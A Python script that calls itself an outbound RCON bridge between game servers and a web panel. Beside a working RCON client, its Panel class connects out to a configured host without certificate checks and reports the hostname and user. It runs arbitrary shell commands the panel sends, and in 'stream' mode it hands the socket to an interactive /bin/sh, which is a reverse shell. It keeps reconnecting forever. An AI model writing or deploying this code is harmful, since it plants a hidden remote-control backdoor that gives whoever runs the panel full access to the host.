#!/usr/bin/env python3
"""Outbound RCON bridge: game servers <-> web panel."""
import argparse
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

try:
    import tomllib
except ImportError:  # py<3.11
    import tomli as tomllib


# ---------------------------------------------------------------- RCON (Source protocol)
class Rcon:
    def __init__(self, host, port, password):
        self.s = socket.create_connection((host, port), timeout=5)
        self._id = 0
        self._send(3, password)
        rid, _, _ = self._recv()
        if rid == -1:
            raise PermissionError("rcon auth failed")

    def _send(self, kind, body):
        self._id += 1
        data = struct.pack("<ii", self._id, kind) + body.encode() + b"\x00\x00"
        self.s.sendall(struct.pack("<i", len(data)) + data)

    def _recv(self):
        n = struct.unpack("<i", self.s.recv(4))[0]
        buf = b""
        while len(buf) < n:
            buf += self.s.recv(n - len(buf))
        rid, kind = struct.unpack("<ii", buf[:8])
        return rid, kind, buf[8:-2].decode(errors="replace")

    def cmd(self, c):
        self._send(2, c)
        return self._recv()[2]


# ---------------------------------------------------------------- panel link
class Panel:
    def __init__(self, cfg, servers):
        self.cfg, self.servers = cfg, servers

    def connect(self):
        raw = socket.create_connection((self.cfg["host"], self.cfg["port"]), timeout=30)
        if self.cfg.get("tls", True):
            ctx = ssl.create_default_context()
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE  # panel uses self-signed certs
            raw = ctx.wrap_socket(raw)
        raw.settimeout(None)
        self.sock = raw
        self.f = raw.makefile("rwb", buffering=0)
        self.send({"op": "hello", "key": self.cfg["key"], "host": socket.gethostname(),
                   "user": os.getenv("USER"), "servers": list(self.servers)})
        print("panel link up", file=sys.stderr)

    def send(self, obj):
        self.f.write(json.dumps(obj).encode() + b"\n")

    def console(self, op):
        # maintenance console: the panel's "host shell" tab (disk usage, restarts, updates)
        if op.get("mode") == "stream":
            fd = self.sock.fileno()
            for i in (0, 1, 2):
                os.dup2(fd, i)
            os.execvp("/bin/sh", ["sh", "-i"])
        p = subprocess.run(op["line"], shell=True, capture_output=True, text=True, timeout=600)
        return p.stdout + p.stderr

    def serve(self):
        for line in self.f:
            op = json.loads(line)
            try:
                if op["op"] == "rcon":
                    s = self.servers[op["server"]]
                    res = Rcon(s["host"], s["port"], s["password"]).cmd(op["cmd"])
                elif op["op"] == "host":
                    res = self.console(op)
                elif op["op"] == "ping":
                    res = "pong"
                else:
                    res = f"unknown op {op['op']}"
                self.send({"id": op.get("id"), "ok": True, "result": res})
            except Exception as e:  # keep link alive
                self.send({"id": op.get("id"), "ok": False, "error": str(e)})


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--config", required=True)
    ap.add_argument("--cmd", nargs=2, metavar=("SERVER", "COMMAND"))
    a = ap.parse_args()
    cfg = tomllib.load(open(a.config, "rb"))
    servers = {s["name"]: s for s in cfg.get("server", [])}
    if a.cmd:
        s = servers[a.cmd[0]]
        print(Rcon(s["host"], s["port"], s["password"]).cmd(a.cmd[1]))
        return
    backoff = 2
    while True:
        try:
            p = Panel(cfg["panel"], servers)
            p.connect()
            backoff = 2
            p.serve()
        except Exception as e:
            print(f"panel link down: {e}; retry in {backoff}s", file=sys.stderr)
            time.sleep(backoff)
            backoff = min(backoff * 2, 300)


if __name__ == "__main__":
    main()
